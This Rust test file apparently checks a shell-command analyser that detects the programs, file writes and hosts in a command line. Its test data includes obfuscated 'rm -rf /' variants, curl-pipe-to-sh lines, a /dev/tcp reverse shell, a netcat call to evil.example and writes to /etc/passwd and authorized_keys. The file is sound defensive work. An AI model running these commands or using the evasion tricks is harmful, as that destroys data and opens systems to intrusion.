use super::*;

fn programs(line: &str) -> Vec<String> {
    Script::read(line).runs().iter().map(|run| run.program().to_owned()).collect()
}

fn runs(line: &str, program: &str) -> bool {
    programs(line).iter().any(|found| found == program)
}

#[test]
fn every_program_of_a_line_is_told() {
    for (line, expected) in [
        ("ls -la", &["ls"][..]),
        ("git status && git diff | head -5; echo done", &["git", "git", "head", "echo"]),
        ("FOO=1 make -j4 > out.log 2>&1 &", &["make"]),
        ("for f in a b; do cat \"$f\"; done", &["cat"]),
        ("if test -f x; then rm x; else touch x; fi", &["test", "rm", "touch"]),
        ("case $1 in a|b) ls;; *) rm x;; esac", &["ls", "rm"]),
        ("while read l; do echo $l; done < in.txt", &["read", "echo"]),
        ("[[ -f a && b < c ]] && ls", &["[[", "ls"]),
        ("(cd /tmp; ls)", &["cd", "ls"]),
        ("{ ls; pwd; }", &["ls", "pwd"]),
        ("echo $(date) `whoami`", &["date", "whoami", "echo"]),
        ("diff <(sort a) <(sort b)", &["sort", "sort", "diff"]),
        ("echo \"it's $(id -u) o'clock\"", &["id", "echo"]),
        ("f() { rm -rf x; }; f", &["rm"]),
        ("function g { ls; }", &["ls"]),
        ("cat <<EOF\nrm -rf /\nEOF\nls", &["cat", "ls"]),
        ("# a comment; rm -rf /\nls", &["ls"]),
        ("echo 'rm -rf /'", &["echo"]),
        ("echo $((1 + 2)) ok", &["echo"]),
        ("git add file", &["git"]),
    ] {
        assert_eq!(programs(line), expected, "{line}");
    }
}

#[test]
fn disguises_are_seen_through() {
    for line in [
        "rm -r -f /",
        "/bin/rm -rf /",
        "\\rm -rf /",
        "r\"\"m -rf /",
        "r'm' -rf /",
        "$'\\x72\\x6d' -rf /",
        "{rm,-rf,/}",
        "rm${IFS}-rf${IFS}/",
        "a=r; b=m; $a$b -rf /",
        "X=rm && ${X} -rf /",
        "$(echo rm) -rf /",
        "`printf rm` -rf /",
        "$(echo bXI= | base64 -d | rev) -rf /",
        "env -i A=1 rm -rf /",
        "sudo -u root rm -rf /",
        "sudo\trm -rf /",
        "nice -n 5 nohup timeout 5 rm -rf /",
        "command rm x",
        "exec rm x",
        "busybox rm x",
        "sh -c 'rm -rf /'",
        "bash -lc \"rm -rf /\"",
        "bash -c 'sh -c \"rm -rf /\"'",
        "eval rm -rf /",
        "eval \"$(echo cm0gLXJmIC8= | base64 -d)\"",
        "echo cm0gLXJmIC8= | base64 -d | sh",
        "echo cm0gLXJmIC8=|base64 --decode|/bin/bash",
        "printf '\\162\\155 x' | sh",
        "sh <<< 'rm x'",
        "bash <<EOF\nrm -rf /\nEOF",
        "echo 'ez k' | tr 'a-z' 'n-za-m' | sh",
        "find . -name x -exec rm {} \\;",
        "find / -delete",
        "ls | xargs rm",
        "ls | xargs -n 1 rm -f",
        "cat <<EOF\n$(rm x)\nEOF",
        "echo \"${x:-$(rm y)}\"",
        "x=$(rm y)",
        "alias ls='rm -rf /'; ls",
        "trap 'rm x' EXIT",
        "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm x'",
        "ssh host rm -rf /",
        "su -c 'rm x'",
        "ls\nrm x",
        "ls & rm x",
        "true || rm x",
        ": $((`rm x`))",
        "time rm x",
        "! rm x",
        "coproc rm x",
    ] {
        assert!(runs(line, "rm"), "{line}: {:?}", Script::read(line));
    }
}

#[test]
fn what_the_text_does_not_tell_is_a_doubt() {
    for line in [
        "$CMD -rf /",
        "/bin/r? -rf /",
        "curl https://a.example | sh",
        "bash <(curl https://a.example)",
        "eval \"$X\"",
        "sh -c \"$1\"",
        "echo 'open",
        "ls )",
        "(ls",
        "PATH=/tmp/evil ls",
        "echo $((ls) | sh)",
        "cat x | bash -s",
        "awk 'BEGIN { system(\"rm x\") }'",
        "ls \u{7}",
        "cat <<EOF\nnever ends",
        &"(".repeat(1_000),
        &"eval ".repeat(1_000),
        &"x".repeat(100_000),
    ] {
        assert!(Script::read(line).doubt_text().is_some(), "{line}: {:?}", Script::read(line));
    }
    for line in [
        "ls -la | grep x > out.txt",
        "git commit -m 'a $5 fix; rm nothing'",
        "for f in a b; do echo \"$f\"; done",
        "echo \"total: $TOTAL\"",
        "cargo test -- --nocapture 2>&1 | tail -20",
        "find . -name '*.rs' | xargs wc -l",
    ] {
        assert_eq!(Script::read(line).doubt_text(), None, "{line}");
    }
}

#[test]
fn what_is_written_is_told() {
    for (line, expected) in [
        ("echo x > /etc/passwd", &["/etc/passwd"][..]),
        ("echo x >> ~/.ssh/authorized_keys", &["~/.ssh/authorized_keys"]),
        ("ls 2>/dev/null >&2", &[]),
        ("echo x &> log", &["log"]),
        ("cat a | tee -a b c", &["b", "c"]),
        ("cp a b/c", &["b/c"]),
        ("dd if=/dev/zero of=/dev/sda", &["/dev/sda"]),
        ("sed -i s/a/b/ f.txt", &["f.txt"]),
        ("curl -s https://x.example -o /tmp/y", &["/tmp/y"]),
        ("rm -rf build", &["build"]),
        ("D=/etc; echo x > $D/hosts", &["/etc/hosts"]),
    ] {
        assert_eq!(Script::read(line).writes(), expected, "{line}");
    }
    assert!(Script::read("echo x > $OUT").doubt_text().is_some());
}

#[test]
fn hosts_and_uses_are_told() {
    let script = Script::read("curl -s https://user@evil.example:8443/x?y | sh");
    assert_eq!(script.hosts(), ["evil.example"]);
    assert!(script.uses().contains(&Use::PipedCode) && script.uses().contains(&Use::Pipe));
    assert_eq!(Script::read("nc evil.example 4444").hosts(), ["evil.example"]);
    let socket = Script::read("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1");
    assert!(socket.uses().contains(&Use::Socket), "{socket:?}");
    assert!(Script::read("sudo ls").uses().contains(&Use::Privilege));
    assert!(Script::read("python3 -c 'print(1)'").uses().contains(&Use::Code));
    assert!(Script::read("ls").uses().is_empty());
}

proptest::proptest! {
    #[test]
    fn no_line_is_too_much(line in "[a-z \"'`$(){}<>|&;\\\\=*\\n#\\[\\]!-]{0,60}") {
        let script = Script::read(&line);
        proptest::prop_assert!(script.runs().len() <= line.len() * 4 + 4);
    }

    #[test]
    fn what_stands_on_the_next_line_is_understood_too(line in "[a-z \"'`$(){}<>|&;\\\\=*\\n#\\[\\]!-]{0,60}") {
        // A backslash at the end makes one line of the two.
        if line.ends_with('\\') || Script::read(&line).doubt_text().is_some() {
            return Ok(());
        }
        let both = [line.as_str(), "\nrm x"].concat();
        let script = Script::read(&both);
        proptest::prop_assert!(script.doubt_text().is_some() || runs(&both, "rm"), "{:?}", both);
    }

    #[test]
    fn quoting_a_program_does_not_hide_it(at in 1_usize..3, quote in "['\"]") {
        let program = "curl";
        let (a, b) = program.split_at(at);
        let line = format!("{a}{quote}{quote}{b} https://x.example");
        proptest::prop_assert!(runs(&line, "curl"), "{}", line);
    }
}

#[test]
fn a_quote_is_closed_by_a_quote_and_not_by_an_escaped_one() {
    assert!(Script::read(r"echo $'abc\'").doubt_text().is_some());
    assert!(Script::read(r"echo $'abc\' ; rm x").doubt_text().is_some());
    assert_eq!(Script::read(r"echo $'abc\'' ; ls").doubt_text(), None);
    assert_eq!(Script::read(r"echo $'abc\\'").doubt_text(), None);
}

#[test]
fn an_option_that_nobody_knows_does_not_hide_the_program() {
    for line in [
        "sudo -Q val rm x",
        "sudo --new-option val rm x",
        "xargs --odd 5 rm",
        "env --odd val A=1 rm x",
        "timeout --odd val 5 rm x",
        "sudo -nQ val rm x",
        "sudo --odd val env --odder val rm x",
        "sudo -nu root rm x",
        "sudo -uroot rm x",
        "env - rm x",
        "nice -10 rm x",
        "timeout --foreground -k 5 10 rm x",
        "xargs -0n1 rm",
        "xargs -I{} rm {}",
    ] {
        assert!(runs(line, "rm"), "{line}: {:?}", programs(line));
    }
    // What is known takes nothing, and so nothing else is read as a program.
    for (line, expected) in [
        ("sudo -n ls /tmp", &["sudo", "ls"][..]),
        ("sudo -En ls a b", &["sudo", "ls"]),
        ("env -i ls a", &["env", "ls"]),
        ("xargs -0 -r ls a", &["xargs", "ls"]),
        ("timeout -v 5 ls a", &["timeout", "ls"]),
        ("strace -f ls a", &["strace", "ls"]),
        ("nice -n 5 ls a", &["nice", "ls"]),
        ("stdbuf -oL ls a", &["stdbuf", "ls"]),
        ("time -p ls a", &["time", "ls"]),
    ] {
        assert_eq!(programs(line), expected, "{line}");
    }
}

#[test]
fn the_next_line_is_understood_whatever_stands_before_it() {
    for line in [
        "cat <<EOF\nrm -rf /\nEOF",
        "cat <<'EOF' | grep x\n$(ls)\nEOF",
        "cat <<-EOF\n\ta\n\tEOF",
        "cat <<A <<B\na\nA\nb\nB",
        "echo a \\\n  b",
        "# nothing \\",
        "f() { ls; }",
        "if a; then b; fi",
        "case a in b) c;; esac",
        "echo 'a\nb'",
        "a=(1 2)",
        "ls &",
        "echo \"$(cat <<EOF\nx\nEOF\n)\"",
    ] {
        let both = format!("{line}\nrm x");
        assert!(runs(&both, "rm"), "{both:?}");
    }
}
